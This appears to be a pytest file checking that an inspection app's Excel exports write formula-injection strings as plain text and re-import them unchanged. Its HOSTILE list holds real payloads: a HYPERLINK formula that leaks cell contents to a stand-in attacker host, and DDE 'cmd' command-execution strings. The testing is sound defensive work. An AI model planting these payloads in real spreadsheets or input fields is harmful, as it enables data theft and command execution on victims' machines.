"""Formula injection: text that a spreadsheet would run as a formula (= + - @, a leading tab or
carriage return) is written as text in every Excel export — results, rectification lists and
templates — and reads back unchanged, as a string, from the workbook file."""

from __future__ import annotations

import zipfile

from openpyxl import load_workbook

from civdesk.services import accounts, rectifications, templates
from civdesk.services import inspections as insp
from civdesk.services.exchange import excel
from tests.helpers.data import picture_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _string_cells(path) -> dict[str, tuple[str, bool]]:
    """Every string cell of every sheet: value → (data type, quote prefix), read from the file."""
    wb = load_workbook(path)
    return {
        c.value: (c.data_type, c.quotePrefix)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }


def _no_formula_in_file(path) -> None:
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name


def _failed_inspection(people, tmp_path) -> int:
    s = people.store
    photo = tmp_path / "现场.jpg"
    photo.write_bytes(picture_bytes())
    iid = insp.new_inspection(s, people.inspector, template_id="mini", site_id=people.site_a, kind="inspection")
    for code, value in (("1.2", "excellent"), ("2.1", 40), ("2.2", "yes")):
        insp.answer(s, people.inspector, iid, code, value)
    insp.answer(s, people.inspector, iid, "1.1", "no", note=HOSTILE[0], photo=photo)
    insp.set_note(s, people.inspector, iid, "2.3", HOSTILE[1])
    return iid


def test_results_export_writes_hostile_text_as_text(people, mini, tmp_path):
    s = people.store
    evil_site = accounts.create_site(s, by=people.admin, name="=站点", kind="toll_station", region="east")
    iid = _failed_inspection(people, tmp_path)
    other = insp.new_inspection(s, people.inspector, template_id="mini", site_id=evil_site, kind="inspection")
    for n, text in enumerate(HOSTILE[2:]):
        insp.answer(
            s,
            people.inspector,
            other,
            ("1.1", "1.2", "2.1", "2.2", "2.3")[n],
            ("yes", "good", 30, "yes", text)[n],
            note=text,
        )
    path = excel.export_inspections(s, [iid, other], tmp_path / "results.xlsx")
    cells = _string_cells(path)
    for text in HOSTILE + ["=站点"]:
        assert cells.get(text) == ("s", True), (text, cells.get(text))
    assert cells["收费站A"] == ("s", False)  # ordinary text is left as it was
    _no_formula_in_file(path)


def test_rectification_list_writes_hostile_text_as_text(people, mini, tmp_path):
    s = people.store
    iid = _failed_inspection(people, tmp_path)
    insp.submit(s, people.inspector, iid)
    rect = s.scalar("SELECT id FROM rectifications WHERE inspection_id = ? AND item_code = '1.1'", (iid,))
    rectifications.mark_done(s, people.manager_a, rect, HOSTILE[4])
    path = excel.export_rectifications(s, tmp_path / "rect.xlsx")
    cells = _string_cells(path)
    assert cells[HOSTILE[4]] == ("s", True)
    _no_formula_in_file(path)


def test_template_export_keeps_hostile_text_as_text_and_reimports_unchanged(people, mini, tmp_path):
    s = people.store
    data = templates.template_data(s, mini)
    data["title"] = "+小型检查表"
    data["sections"][0]["title"] = "-服务"
    data["sections"][0]["items"][0]["text"] = HOSTILE[0]
    data["sections"][0]["items"][1]["guidance"] = HOSTILE[5]
    pk, created = templates.add_version(s, data, by=people.admin)
    assert created
    path = templates.export_workbook(s, "mini", tmp_path / "mini.xlsx")
    cells = _string_cells(path)
    for text in ("+小型检查表", "-服务", HOSTILE[0], HOSTILE[5]):
        assert cells[text] == ("s", True), text
    _no_formula_in_file(path)
    back = templates.load_file(path)
    assert back == templates.template_data(s, pk)
    assert templates.add_version(s, back, by=people.admin) == (pk, False)  # recognised as the same content
